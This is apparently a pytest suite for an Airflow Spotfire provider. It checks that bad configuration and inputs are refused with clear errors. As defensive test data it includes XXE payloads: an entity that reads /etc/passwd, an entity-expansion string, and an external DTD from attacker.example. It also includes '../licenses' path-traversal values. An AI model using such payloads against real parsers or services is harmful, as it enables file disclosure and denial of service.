"""Bad inputs, tried as a new user would, through the operators and the hooks against the emulator.

Every case of the table must end in ONE error whose message names the cause and the fix, and must
leave the emulator as it was: no open upload job, no running Automation Services job, no license
change. Cases marked ``local`` must be refused before any request reaches the server (no token
request either). The table is the one in docs/troubleshooting.md ("Bad input").
"""

from __future__ import annotations

import hashlib
import json
import logging
import math
import re
import warnings
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from airflow import __version__ as airflow_version

from airflow_provider_spotfire import _validation as validate
from airflow_provider_spotfire._http import RetryPolicy
from airflow_provider_spotfire.api.automation import AutomationJobSource, BusyRetry
from airflow_provider_spotfire.emulator import seed
from airflow_provider_spotfire.exceptions import SpotfireConfigurationError, SpotfireTLSError
from airflow_provider_spotfire.hooks.spotfire import SpotfireAsyncHook, SpotfireHook
from airflow_provider_spotfire.operators.automation import SpotfireRunAutomationJobOperator
from airflow_provider_spotfire.operators.library import SpotfireUploadSbdfOperator
from airflow_provider_spotfire.operators.licenses import (
    SpotfireSetGroupLicenseOperator,
    SpotfireSyncGroupLicensesOperator,
)
from airflow_provider_spotfire.sensors.automation import SpotfireAutomationJobSensor
from airflow_provider_spotfire.sensors.library import SpotfireUploadJobSensor
from airflow_provider_spotfire.triggers.automation import SpotfireAutomationJobTrigger
from airflow_provider_spotfire.triggers.library import SpotfireUploadJobTrigger

SBDF_HEADER = b"\xdf\x5b\x01\x01\x00"
JOB_PATH = "/Airflow/Jobs/Export Finance Report"
ITEM_PATH = "/Airflow/Reports/bad-input"
SEED_GUID = "491647ba-99f9-43d0-a6ad-776a474ade28"
XXE_FILE = '<?xml version="1.0"?><!DOCTYPE as [<!ENTITY x SYSTEM "file:///etc/passwd">]><as:Job>&x;</as:Job>'
XXE_INTERNAL = '<!DOCTYPE as [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><as:Job>&b;</as:Job>'
XXE_PARAMETER = '<!DOCTYPE as SYSTEM "http://attacker.example/evil.dtd"><as:Job/>'


@dataclass
class RecordingTI:
    """The part of a task instance the operators use."""

    dag_id: str = "bad_inputs"
    task_id: str = "t"
    run_id: str = "manual__1"
    try_number: int = 1
    map_index: int = -1
    stats_tags: dict[str, str] = field(default_factory=dict)
    xcom: dict[str, Any] = field(default_factory=dict)

    def xcom_push(self, key: str, value: Any) -> None:
        self.xcom[key] = value


@dataclass
class Env:
    """What a case needs: the emulator, a default connection and a way to define others."""

    emulator: Any
    conn_id: str
    tmp_path: Path
    monkeypatch: pytest.MonkeyPatch

    def conn(self, name: str = "spotfire_bad", **fields: Any) -> str:
        """An env-var connection on the emulator with some fields (host, extra ...) replaced."""
        conn = self.emulator.connection_dict("airflow") | fields
        self.monkeypatch.setenv(f"AIRFLOW_CONN_{name.upper()}", json.dumps(conn))
        return name

    def sbdf(self) -> str:
        path = self.tmp_path / "data.sbdf"
        path.write_bytes(SBDF_HEADER + hashlib.shake_256(b"x").digest(4096))
        return str(path)


def upload(env: Env, conn_id: str | None = None, **kwargs: Any) -> Any:
    kwargs.setdefault("library_path", ITEM_PATH)
    kwargs.setdefault("source", env.sbdf())
    op = SpotfireUploadSbdfOperator(
        task_id="up", deferrable=False, spotfire_conn_id=conn_id or env.conn_id, **kwargs
    )
    return op.execute({"ti": RecordingTI()})


def as_job(env: Env, conn_id: str | None = None, **kwargs: Any) -> Any:
    kwargs.setdefault("poll_interval", 0.1)
    op = SpotfireRunAutomationJobOperator(
        task_id="as", deferrable=False, spotfire_conn_id=conn_id or env.conn_id, **kwargs
    )
    return op.execute({"ti": RecordingTI()})


def set_license(env: Env, **kwargs: Any) -> Any:
    kwargs.setdefault("group_id", seed.GROUP_FINANCE)
    kwargs.setdefault("license_name", seed.LIC_METRICS)
    return SpotfireSetGroupLicenseOperator(task_id="set", spotfire_conn_id=env.conn_id, **kwargs).execute({})


def sync_licenses(env: Env, **kwargs: Any) -> Any:
    kwargs.setdefault("group_id", seed.GROUP_FINANCE)
    op = SpotfireSyncGroupLicensesOperator(task_id="sync", spotfire_conn_id=env.conn_id, **kwargs)
    return op.execute({})


def hook_call(env: Env, conn_id: str) -> Any:
    hook = SpotfireHook(conn_id)
    try:
        return hook.list_licenses()
    finally:
        hook.close()


@dataclass(frozen=True)
class Case:
    id: str
    run: Callable[[Env], Any]
    message: str  # regex searched in the error message
    error: type[Exception] = SpotfireConfigurationError
    local: bool = True  # refused before any request reaches the server


CASES = [
    # ---- numbers
    Case(
        "as-poll-interval-nan",
        lambda e: as_job(e, library_path=JOB_PATH, poll_interval=float("nan")),
        r"poll_interval must be a finite number of seconds, got nan",
    ),
    Case(
        "as-poll-interval-zero",
        lambda e: as_job(e, library_path=JOB_PATH, poll_interval="0"),
        r"poll_interval must be more than zero seconds, got '0'",
    ),
    Case(
        "upload-poll-interval-word",
        lambda e: upload(e, poll_interval="soon"),
        r"poll_interval must be a number of seconds, got the string 'soon'",
    ),
    Case(
        "upload-poll-interval-inf",
        lambda e: upload(e, poll_interval=math.inf),
        r"poll_interval must be a finite number of seconds",
    ),
    Case(
        "upload-chunk-size-2-40",
        lambda e: upload(e, chunk_size=2**40),
        r"chunk_size must be a whole number of bytes from 1 to 1,073,741,824, got 1,099,511,627,776",
    ),
    Case(
        "upload-chunk-size-float",
        lambda e: upload(e, chunk_size=1.5),
        r"chunk_size must be a whole number of bytes from 1 to 1,073,741,824, got 1.5",
    ),
    Case(
        "upload-parallelism-zero",
        lambda e: upload(e, parallelism="0"),
        r"parallelism must be a whole number of chunks from 1 to 16, got 0",
    ),
    Case(
        "connection-timeout-nan",
        lambda e: hook_call(e, e.conn(extra={"timeout": "nan"})),
        r"Spotfire connection 'spotfire_bad': extra timeout must be a finite number of seconds, got 'nan'",
    ),
    Case(
        "connection-timeout-negative",
        lambda e: hook_call(e, e.conn(extra={"timeout": -3})),
        r"extra timeout must be more than zero seconds, got -3 \(default 60\)",
    ),
    Case(
        "trigger-poll-interval-negative",
        lambda e: SpotfireAutomationJobTrigger(job_id="j", poll_interval=-1),
        r"poll_interval must be more than zero seconds, got -1",
    ),
    Case(
        "trigger-deadline-nan",
        lambda e: SpotfireUploadJobTrigger(job_id="j", deadline=float("nan")),
        r"deadline must be a finite number of epoch seconds",
    ),
    Case(
        "as-sensor-poke-interval-inf",
        lambda e: SpotfireAutomationJobSensor(task_id="s", job_id="j", poke_interval=math.inf),
        r"poke_interval must be a finite number of seconds, got inf",
    ),
    Case(
        "upload-sensor-timeout-nan",
        lambda e: SpotfireUploadJobSensor(task_id="s", job_id="j", timeout="nan"),
        r"timeout must be a finite number of seconds, got 'nan'",
    ),
    Case(
        "as-busy-retry-zero-attempts",
        lambda e: as_job(e, library_path=JOB_PATH, busy_retry=BusyRetry(max_attempts=0)),
        r"BusyRetry\.max_attempts must be a whole number from 1 to 1,000, got 0",
    ),
    Case(
        "hook-retry-policy-nan-backoff",
        lambda e: SpotfireHook(e.conn_id, retry_policy=RetryPolicy(initial_backoff=float("nan"))),
        r"RetryPolicy\.initial_backoff must be a finite number of seconds, got nan",
    ),
    # ---- TLS
    Case(
        "verify-typo",
        lambda e: hook_call(e, e.conn(extra={"verify": "flase"})),
        r"extra verify='flase' is neither true/false nor the path of an existing CA bundle file",
    ),
    Case(
        "verify-missing-ca-bundle",
        lambda e: upload(e, e.conn(extra={"verify": "/nonexistent/ca.pem"})),
        r"extra verify='/nonexistent/ca.pem' is neither true/false nor the path of an existing CA bundle",
    ),
    # ---- where the server is
    Case(
        "host-scheme-colon-missing",
        lambda e: upload(e, e.conn(host="https//spotfire.example.com")),
        r"host 'https//spotfire.example.com' has a malformed scheme .*write it as https://spotfire.example.com",
    ),
    Case(
        "host-bad-port",
        lambda e: hook_call(e, e.conn(host="https://spotfire.example.com:84x3")),
        r"has an invalid port; use a number from 1 to 65535",
    ),
    Case(
        "https-to-plain-http-port",
        lambda e: upload(e, e.conn(host=e.emulator.url.replace("http://", "https://"))),
        r"the port speaks plain HTTP, not HTTPS\. Use an http:// host .* or the server's HTTPS port",
        error=SpotfireTLSError,
        local=False,
    ),
    Case(
        "wrong-context-path",
        lambda e: upload(e, e.conn(extra={"context_path": "/spotfyre"})),
        r"token endpoint /spotfyre/oauth2/token answered 404.*Check the host and port, and the extra "
        r"context_path \(now '/spotfyre'",
        local=False,
    ),
    Case(
        "empty-context-path-is-honoured",
        lambda e: as_job(e, e.conn(extra={"context_path": ""}), library_path=JOB_PATH),
        r"token endpoint /oauth2/token answered 404.*\(now '\(empty: server at the root\)'",
        local=False,
    ),
    # ---- limits of the upload
    Case(
        "upload-100000-keywords",
        lambda e: upload(e, keywords=[f"k{i}" for i in range(100_000)]),
        r"keywords has 100,000 entries; at most 1,000 are accepted",
    ),
    Case(
        "upload-long-keyword",
        lambda e: upload(e, keywords=["x" * 300]),
        r"has 300 characters; at most 256 are accepted per keyword",
    ),
    Case(
        "upload-100kb-description",
        lambda e: upload(e, description="d" * 100 * 1024),
        r"description has 102,400 characters; at most 10,000 are accepted",
    ),
    # ---- Automation Services sources
    Case(
        "as-library-path-relative",
        lambda e: as_job(e, library_path="Airflow/Jobs/Export Finance Report"),
        r"library_path 'Airflow/Jobs/Export Finance Report' is not absolute; start it with '/'",
    ),
    Case(
        "as-library-path-dotdot",
        lambda e: as_job(e, library_path="/Airflow/../Jobs/x"),
        r"contains '\.\.'; library paths have no relative parts",
    ),
    Case(
        "as-library-id-not-guid",
        lambda e: as_job(e, library_id="Export Finance Report"),
        r"library_id 'Export Finance Report' is not a GUID; library ids look like",
    ),
    Case(
        "as-job-xml-external-entity",
        lambda e: as_job(e, job_xml=XXE_FILE),
        r"contains a DTD \(<!DOCTYPE \.\.\.>\) or an entity declaration.*\(XXE\)",
    ),
    Case(
        "as-job-xml-entity-expansion",
        lambda e: as_job(e, job_xml=XXE_INTERNAL),
        r"contains a DTD \(<!DOCTYPE \.\.\.>\) or an entity declaration",
    ),
    Case(
        "as-job-xml-external-dtd",
        lambda e: as_job(e, job_xml=XXE_PARAMETER),
        r"contains a DTD \(<!DOCTYPE \.\.\.>\)",
    ),
    Case(
        "as-job-xml-undefined-entity",
        lambda e: as_job(e, job_xml="<as:Job>&secret;</as:Job>"),
        r"is not well-formed XML \(undefined entity: line 1",
    ),
    # ---- licenses
    Case(
        "license-functions-not-a-name",
        lambda e: set_license(e, license_functions="view Metrics!"),
        r"license_functions 'view Metrics!' is not a function name or a comma-separated list of names",
    ),
    Case(
        "group-id-empty",
        lambda e: set_license(e, group_id=""),
        r"group_id is empty \(''\); group ids are GUIDs such as",
    ),
    Case(
        "group-id-path-traversal",
        lambda e: sync_licenses(e, group_id="../licenses", licenses={seed.LIC_METRICS: None}),
        r"group_id '\.\./licenses' is not a group id \(it could change the request's URL path\)",
    ),
    Case(
        "hook-group-id-path-traversal",
        lambda e: SpotfireHook(e.conn_id).get_group_licenses("../licenses"),
        r"group_id '\.\./licenses' is not a group id \(it could change the request's URL path\)",
    ),
    Case(
        "hook-library-id-not-guid",
        lambda e: SpotfireHook(e.conn_id).start_automation_job(
            AutomationJobSource(library_id="Nightly Batch")
        ),
        r"library_id 'Nightly Batch' is not a GUID",
    ),
    Case(
        "hook-job-xml-bytes-with-doctype",
        lambda e: SpotfireHook(e.conn_id).start_automation_job_from_xml(XXE_FILE.encode()),
        r"contains a DTD \(<!DOCTYPE \.\.\.>\)",
    ),
    Case(
        "hook-job-xml-utf16-with-doctype",
        lambda e: SpotfireHook(e.conn_id).start_automation_job_from_xml(
            XXE_FILE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
        ),
        r"contains a document type declaration; remove it",
    ),
    Case(
        "hook-malformed-utf16-xml-with-doctype",
        lambda e: SpotfireHook(e.conn_id).start_automation_job_from_xml(
            XXE_FILE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
            .replace("</as:Job>", "<unclosed></as:Job>")
            .encode("utf-16")
        ),
        r"contains a document type declaration; remove it",
    ),
    Case(
        "sync-empty-licenses-remove-unlisted",
        lambda e: sync_licenses(e, licenses={}, remove_unlisted=True),
        r"licenses is empty \(\{\}\) and remove_unlisted=True: this would remove every license set "
        r"explicitly on group .*Nothing was changed.*allow_remove_all=True",
    ),
    Case(
        "sync-rendered-empty-template",
        lambda e: sync_licenses(e, licenses="{}", remove_unlisted=True),
        r"licenses is empty \('\{\}'\) and remove_unlisted=True",
    ),
]


@pytest.fixture
def env(
    spotfire_conn_id: str, spotfire_emulator: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Env:
    return Env(spotfire_emulator, spotfire_conn_id, tmp_path, monkeypatch)


def _state(emulator: Any) -> dict[str, Any]:
    return emulator.inspect()


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_gets_one_clear_error_and_changes_nothing(env: Env, case: Case) -> None:
    before = _state(env.emulator)
    with pytest.raises(case.error) as info:
        case.run(env)
    assert re.search(case.message, str(info.value), re.DOTALL), str(info.value)
    after = _state(env.emulator)
    assert [j for j in after["upload_jobs"] if j["status"] == "open"] == []
    assert [j for j in after["as_jobs"] if j["status"] in ("Queued", "InProgress")] == []
    assert after["counters"]["as_starts"] == before["counters"]["as_starts"]
    assert after["licenses"]["assignments"] == before["licenses"]["assignments"]
    assert [i for i in after["library"]["items"] if i["path"] == ITEM_PATH] == []
    if case.local:
        assert env.emulator.requests_log(path_prefix="/spotfire/") == [], "a request was sent"


# ------------------------------------------------------------------------------ what is accepted


def test_numbers_rendered_as_strings_are_converted(env: Env) -> None:
    op = SpotfireUploadSbdfOperator(
        task_id="up",
        library_path=ITEM_PATH,
        source=env.sbdf(),
        chunk_size="1024",
        parallelism="2",
        poll_interval="0.5",
        deferrable=False,
        spotfire_conn_id=env.conn_id,
    )
    assert (op.chunk_size, op.parallelism, op.poll_interval) == (1024, 2, 0.5)
    result = op.execute({"ti": RecordingTI()})
    assert result["chunks"] == 5  # 4101 bytes in 1024-byte chunks
    job = SpotfireRunAutomationJobOperator(task_id="as", library_path=JOB_PATH, poll_interval="5")
    assert job.poll_interval == 5.0
    sensor = SpotfireUploadJobSensor(task_id="s", job_id="j", poke_interval="2", timeout="60")
    assert (sensor.poke_interval, sensor.timeout) == (2.0, 60.0)


def test_bare_function_name_is_one_function(env: Env) -> None:
    result = set_license(env, group_id=seed.GROUP_AIRFLOW_UPLOADERS, license_functions="viewMetrics")
    assert result["functions"] == ["viewMetrics"]
    assigned = env.emulator.inspect()["licenses"]["assignments"][seed.GROUP_AIRFLOW_UPLOADERS]
    assert assigned == {seed.LIC_METRICS: ["viewMetrics"]}


def test_remove_all_needs_the_explicit_flag_and_logs_each_removal(env: Env) -> None:
    import structlog

    group = seed.GROUP_FINANCE
    before = env.emulator.inspect()["licenses"]["assignments"][group]
    assert before, "the seeded Finance group has explicit licenses"
    with structlog.testing.capture_logs() as logs:
        result = sync_licenses(env, group_id=group, licenses={}, remove_unlisted=True, allow_remove_all=True)
    assert sorted(c["license"] for c in result["changes"]) == sorted(before)
    assert group not in env.emulator.inspect()["licenses"]["assignments"]
    events = [entry["event"] for entry in logs]
    removals = [i for i, e in enumerate(events) if "removing license" in e]
    applied = [i for i, e in enumerate(events) if ": applied remove" in e]
    assert len(removals) == len(before) and all("remove_unlisted=True" in events[i] for i in removals)
    assert max(removals) < min(applied), "every planned removal is logged before the first is applied"


def test_existing_ca_bundle_path_is_accepted(env: Env) -> None:
    ca = env.tmp_path / "ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\n")
    assert SpotfireHook(env.conn(extra={"verify": str(ca)})).config.verify == str(ca)


async def test_trigger_connection_lookup_failure_names_the_workaround() -> None:
    hook = SpotfireAsyncHook("spotfire_only_in_db")
    with pytest.raises(SpotfireConfigurationError) as info:
        await hook.aconfig()
    message = str(info.value)
    assert "Spotfire connection 'spotfire_only_in_db' could not be read where the trigger runs" in message
    assert "airflow dags test" in message and "AIRFLOW_CONN_SPOTFIRE_ONLY_IN_DB" in message


def test_verify_false_warns_once_per_connection_in_our_words(monkeypatch, caplog) -> None:
    from airflow_provider_spotfire.emulator.server import EmulatorServer

    with EmulatorServer(tls=True) as server:
        conn = server.connection_dict("airflow") | {"extra": {"verify": False}}
        monkeypatch.setenv("AIRFLOW_CONN_SPOTFIRE_NOVERIFY", json.dumps(conn))
        with warnings.catch_warnings(record=True) as caught, caplog.at_level(logging.WARNING):
            warnings.simplefilter("always")
            for _ in range(2):
                hook = SpotfireHook("spotfire_noverify")
                hook.list_licenses()
                hook.list_licenses()
                hook.close()
    ours = [r for r in caplog.records if "has verify=false" in r.getMessage()]
    assert len(ours) == 1
    assert "Point verify at the server's CA bundle" in ours[0].getMessage()
    assert [w for w in caught if "Unverified HTTPS request" in str(w.message)] == []


@pytest.mark.parametrize(
    ("fields", "error", "message"),
    [
        ({"host": "https://"}, SpotfireTLSError, r"the port speaks plain HTTP, not HTTPS"),
        (
            {"extra": {"context_path": "/nope"}},
            SpotfireConfigurationError,
            r"/nope/oauth2/token answered 404",
        ),
    ],
    ids=["https-to-plain-http-port", "wrong-context-path"],
)
async def test_async_hook_of_the_triggers_names_the_same_causes(env: Env, fields, error, message) -> None:
    if fields.get("host") == "https://":
        fields = {"host": env.emulator.url.replace("http://", "https://")}
    hook = SpotfireAsyncHook(env.conn(**fields), retry_policy=RetryPolicy(max_attempts=1))
    with pytest.raises(error, match=message):
        await hook.get_automation_job_status("00000000-0000-0000-0000-000000000000")
    assert env.emulator.inspect()["as_jobs"] == []


@pytest.mark.skipif(
    tuple(int(p) for p in airflow_version.split(".")[:2]) < (3, 2),
    reason="Airflow 3.1's in-process trigger runner of dag.test() keeps the deferred task waiting "
    "instead of failing it (observed with 3.1.0): the message is checked on 3.2+",
)
@pytest.mark.usefixtures("airflow_db")
def test_deferrable_task_with_a_db_only_connection_under_dag_test_names_the_workaround(
    spotfire_emulator, capfd
) -> None:
    """dag.test()'s in-process triggerer cannot read DB connections: the error says what to do."""
    from airflow.models.connection import Connection
    from airflow.utils.session import create_session

    from tests.helpers import run_dag, task_states

    fields = spotfire_emulator.connection_dict("airflow")
    with create_session() as session:
        session.query(Connection).filter(Connection.conn_id == "spotfire_db_only").delete()
        session.add(
            Connection(
                conn_id="spotfire_db_only",
                conn_type="spotfire",
                host=fields["host"],
                login=fields["login"],
                password=fields["password"],
            )
        )
    dag_file = Path(__file__).parent / "bad_inputs_dags" / "db_only_connection_dag.py"
    dag_run = run_dag(dag_file, "bad_inputs_db_only_connection")
    assert task_states(dag_run) == {"deferred_job": "failed"}
    output = capfd.readouterr()
    text = output.out + output.err
    assert "Spotfire connection 'spotfire_db_only' could not be read where the trigger runs" in text
    assert "Define it as an environment variable AIRFLOW_CONN_SPOTFIRE_DB_ONLY" in text
    jobs = spotfire_emulator.inspect()["as_jobs"]
    assert [j["status"] for j in jobs] == ["Canceled"], (
        "the job the task started is aborted, not left running"
    )


@pytest.mark.parametrize(
    ("check", "value", "expected"),
    [
        (
            lambda v: validate.guid("library_id", v),
            "{491647BA-99F9-43D0-A6AD-776A474ADE28}",
            SEED_GUID,
        ),
        (lambda v: validate.guid("library_id", v), f" {SEED_GUID} ", SEED_GUID),
        (validate.chunk_size, " 8388608 ", 8 * 1024 * 1024),
        (validate.chunk_size, 4096.0, 4096),
        (lambda v: validate.seconds("poll_interval", v), " 2.5 ", 2.5),
        (lambda v: validate.seconds("poll_interval", v, allow_zero=True), 0, 0.0),
        (validate.keywords, "sales, daily,,", ["sales", "daily"]),
        (lambda v: validate.library_path(v), " /Airflow/Reports/sales ", "/Airflow/Reports/sales"),
        (
            lambda v: validate.license_function_names(v),
            "viewMetrics, editMetrics",
            ["viewMetrics", "editMetrics"],
        ),
        (lambda v: validate.license_function_names(v), '["a"]', '["a"]'),  # left to the literal parser
    ],
)
def test_accepted_forms_are_normalised(check, value, expected) -> None:
    assert check(value) == expected


@pytest.mark.parametrize("value", [True, None, [], "5s", "1e400", -0.5])
def test_seconds_refuses_what_is_not_a_finite_positive_number(value) -> None:
    with pytest.raises(SpotfireConfigurationError, match=r"^poll_interval must be "):
        validate.seconds("poll_interval", value)
